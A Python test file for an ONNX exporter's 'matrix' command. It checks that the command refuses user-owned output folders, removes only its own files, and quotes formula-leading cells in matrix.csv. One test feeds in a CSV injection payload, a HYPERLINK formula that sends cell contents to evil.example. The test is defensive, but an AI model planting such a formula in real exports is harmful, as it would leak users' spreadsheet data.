"""Trust of `exporter matrix`'s outputs: its --out folder is new, empty or its own (a
folder of the user's is refused untouched; in its own it removes only what it wrote), and
matrix.csv never hands a spreadsheet a formula from user text.

The matrices here have one cell whose factory raises: it settles in seconds (bad-input)
and is cached like any other, so a second run resumes from the cache. Its process starts
cold (warm_start = false): a warm worker's imports (transformers, the onnx exporter) took
6.6-8.8 CPU s a run where the cold cell takes 3.7-4.0, and nothing here is about them.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from exporter.cli import app
from exporter.matrix.folder import MARKER
from exporter.matrix.results import _csv
from exporter.matrix.runner import run_matrix

pytest.importorskip("onnxruntime")
CELL = "broken--onnx"


def _matrix(folder: Path, group: str = "g") -> Path:
    (folder / "raises.py").write_text("def factory():\n    raise RuntimeError('on purpose')\n")
    path = folder / "m.toml"
    path.write_text(f'warm_start = false\n[models]\nbroken = {{ spec = "raises.py:factory", '
                    f'group = {json.dumps(group)} }}\n[targets.onnx]\n')
    return path


def _tree(folder: Path) -> dict[str, bytes | None]:
    """Every entry under ``folder``: a file's bytes, None for a folder."""
    return {p.relative_to(folder).as_posix(): None if p.is_dir() else p.read_bytes()
            for p in sorted(folder.rglob("*"))}


def _invoke(matrix: Path, out: Path, *extra: str):
    return CliRunner().invoke(app, ["matrix", str(matrix), "--out", str(out), *extra])


def test_a_matrix_out_folder_of_the_users_is_refused_before_any_work(tmp_path):
    """The matrix used to delete every file under OUT/running, replace the user's
    matrix.html/.csv/.json, cells/ and artifacts/ entries, and crash (exit 4) on a folder
    in running/."""
    out = tmp_path / "mine"
    for name in ("running/notes.txt", "running/sub/keep.txt", "matrix.html", "matrix.csv",
                 "matrix.json", f"cells/{CELL}.toml", f"artifacts/{CELL}.artifact"):
        (out / name).parent.mkdir(parents=True, exist_ok=True)
        (out / name).write_text(f"the user's {name}")
    before = _tree(out)
    matrix = _matrix(tmp_path)
    result = _invoke(matrix, out)
    assert result.exit_code == 2 and result.stderr.startswith("error: "), result.output
    assert "did not write" in result.stderr and "Traceback" not in result.stderr
    as_json = _invoke(matrix, out, "--json")
    assert as_json.exit_code == 2 and json.loads(as_json.stdout)["error"]["exit_code"] == 2
    assert _tree(out) == before
    # a marker that is not the matrix's own does not make the folder the matrix's
    (out / MARKER).write_text('{"tool": "something else"}')
    assert _invoke(matrix, out).exit_code == 2 and (out / "running" / "notes.txt").exists()


def test_the_matrix_resumes_in_its_own_folder_and_removes_only_what_it_wrote(tmp_path):
    matrix, out = _matrix(tmp_path), tmp_path / "out"
    first = run_matrix(matrix, out, workers=1)
    assert first["totals"]["built"] == 1 and (out / MARKER).is_file()
    mine = {"notes.txt": b"mine", "running/notes.txt": b"mine",
            "running/other--onnx.json": b'{"mine": true}', "cells/extra.toml": b"mine"}
    for name, data in mine.items():
        (out / name).write_bytes(data)
    (out / "running" / "a-folder").mkdir()
    stale = out / "running" / f"{CELL}.json"  # a marker a killed run left
    stale.write_text(json.dumps({"cell": CELL, "worker_pid": 1, "attempt": 1}))
    again = run_matrix(matrix, out, workers=1)
    assert again["totals"]["cached"] == 1 and again["totals"]["built"] == 0
    assert not stale.exists() and (out / "running" / "a-folder").is_dir()
    assert {name: (out / name).read_bytes() for name in mine} == mine


def test_a_folder_where_the_matrix_writes_a_file_is_exit_2_and_nothing_changes(tmp_path):
    matrix, out = _matrix(tmp_path), tmp_path / "out"
    run_matrix(matrix, out, workers=1)
    (out / "cells" / f"{CELL}.toml").unlink()
    (out / "cells" / f"{CELL}.toml").mkdir()
    (out / "running" / f"{CELL}.json").mkdir()
    before = _tree(out)
    result = _invoke(matrix, out)
    assert result.exit_code == 2 and "Traceback" not in result.stderr, result.output
    assert result.stderr.count("is not a regular file") == 2
    assert _tree(out) == before


def test_matrix_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    out = tmp_path / "out"
    run_matrix(_matrix(tmp_path, group=formula), out, workers=1)
    with open(out / "matrix.csv", newline="") as fh:
        (row,) = csv.DictReader(fh)
    assert row["group"] == "'" + formula and row["model"] == "broken"
    assert float(row["build_s"]) > 0 and row["exit_code"] == "2"  # numbers stay numbers
    assert json.loads((out / "matrix.json").read_text())["cells"][0]["group"] == formula


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_each_formula_start_is_quoted_and_negative_numbers_are_not(text):
    (row,) = csv.DictReader(_csv([{"model": "m", "error": text, "build_s": -1.5,
                                   "exit_code": -2, "status": "ok"}]).splitlines(True))
    assert row["error"] == "'" + text
    assert row["build_s"] == "-1.5" and row["exit_code"] == "-2" and row["model"] == "m"
